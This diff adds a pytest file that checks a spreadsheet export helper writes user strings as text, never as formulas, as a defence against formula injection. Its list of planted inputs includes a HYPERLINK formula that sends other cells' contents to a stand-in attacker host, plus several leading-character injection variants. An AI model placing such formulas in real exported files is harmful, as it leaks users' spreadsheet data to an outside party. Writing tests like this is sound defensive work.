@@ -1,0 +1,46 @@
+"""Every export writes user text as text: no cell of a produced file is a formula."""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from minsheng.core.xlsx import append_row, workbook_bytes
+
+PLANTED = [
+    '=HYPERLINK("http://evil.example/?"&D2&E2,"详情")',
+    "+1-2",
+    "-3+4",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
+
+
+def cells(content: bytes) -> list[tuple[object, str]]:
+    book = load_workbook(io.BytesIO(content))
+    return [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row]
+
+
+def test_plain_openpyxl_would_have_written_a_formula() -> None:
+    # The control: this is the behaviour the helper exists to prevent.
+    book = Workbook()
+    book.active.append(["=1+1"])  # type: ignore[union-attr]
+    assert cells(workbook_bytes(book)) == [("=1+1", "f")]
+
+
+@pytest.mark.parametrize("write_only", [True, False])
+def test_strings_are_written_as_text_whatever_they_begin_with(write_only: bool) -> None:
+    book = Workbook(write_only=write_only)
+    sheet = book.create_sheet("x") if write_only else book.active
+    append_row(sheet, [*PLANTED, 12, None])  # type: ignore[arg-type]
+    append_row(sheet, ["控制字符\x01\x0b在这里"])  # type: ignore[arg-type]
+    read = cells(workbook_bytes(book))
+    assert all(kind != "f" for _value, kind in read)
+    values = [value for value, _kind in read]
+    # The text is kept as typed (the file format turns a carriage return into a line feed).
+    assert [str(v).lstrip() for v in values[: len(PLANTED)]] == [v.lstrip() for v in PLANTED]
+    assert 12 in values and "控制字符在这里" in values
